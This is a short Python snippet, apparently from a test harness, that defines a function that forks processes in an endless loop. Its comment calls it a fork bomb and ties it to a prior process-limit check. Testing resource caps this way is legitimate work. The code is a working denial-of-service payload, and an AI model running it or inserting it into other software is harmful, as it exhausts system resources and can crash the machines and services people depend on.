# Fork bomb in Python: run only after the cap test has passed.
import os


def probe():
    while True:
        try:
            os.fork()
        except OSError:
            pass
